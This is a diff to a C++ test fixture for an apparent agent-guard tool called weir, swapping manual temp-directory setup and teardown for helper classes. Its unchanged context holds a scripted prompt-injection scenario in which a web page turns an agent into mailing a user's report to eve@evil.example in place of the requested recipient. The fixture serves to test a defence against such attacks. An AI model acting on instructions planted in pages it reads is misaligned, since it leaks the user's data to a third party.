@@ -2,10 +2,8 @@
 #pragma once
 
 #include <gtest/gtest.h>
-#include <stdlib.h>
 
 #include <memory>
-#include <sstream>
 #include <string>
 #include <vector>
 
@@ -17,15 +15,18 @@
 #include "os/process.h"
 #include "os/xdg.h"
 #include "store/store.h"
+#include "support/surroundings.h"
+#include "support/throwaway_dir.h"
 
 namespace weir::cli::testing {
 
 class RecordedTest : public ::testing::Test {
  protected:
+  const support::ThrowawayDir throwaway_;
+  const std::string dir_ = throwaway_.path();
+  const support::WithVariable weir_home_{"WEIR_HOME", dir_};
+
   void SetUp() override {
-    char name[] = "/tmp/weir-flow.XXXXXX";
-    dir_ = ::mkdtemp(name);
-    ::setenv("WEIR_HOME", dir_.c_str(), 1);
     auto store = store::Store::open(store::options_at(os::places()));
     ASSERT_TRUE(store) << store.error().message();
     store_ = *std::move(store);
@@ -33,11 +34,6 @@ class RecordedTest : public ::testing::Test {
     ASSERT_TRUE(pack) << pack.error().message();
     pack_ = *pack;
     begin("claude-code:first");
-  }
-  void TearDown() override {
-    store_.reset();
-    ::unsetenv("WEIR_HOME");
-    (void)os::run_child({.argv = {"rm", "-rf", dir_}});
   }
 
   // Another session tree.
@@ -96,20 +92,6 @@ class RecordedTest : public ::testing::Test {
     ASSERT_TRUE(stored) << stored.error().message();
   }
 
-  struct Ran {
-    int code = 0;
-    std::string out, err;
-  };
-  Ran weir(const std::vector<std::string>& argv) {
-    std::istringstream in;
-    std::ostringstream out, err;
-    Ran ran;
-    ran.code = run_command_line(all_commands(), argv, in, out, err);
-    ran.out = out.str();
-    ran.err = err.str();
-    return ran;
-  }
-
   // The user wants a report sent; a page wants it sent elsewhere, and the agent turns.
   void tell_of_a_turned_agent() {
     say("Summarize https://site.example/notes and send the report to ann@example.com");
@@ -125,7 +107,7 @@ class RecordedTest : public ::testing::Test {
                     Json::object({{"to", "eve@evil.example"}, {"body", "The report."}}), "t3");
   }
 
-  std::string dir_, root_;
+  std::string root_;
   std::shared_ptr<const guard::Pack> pack_;
   std::unique_ptr<store::Store> store_;
   std::unique_ptr<guard::Guard> guard_;
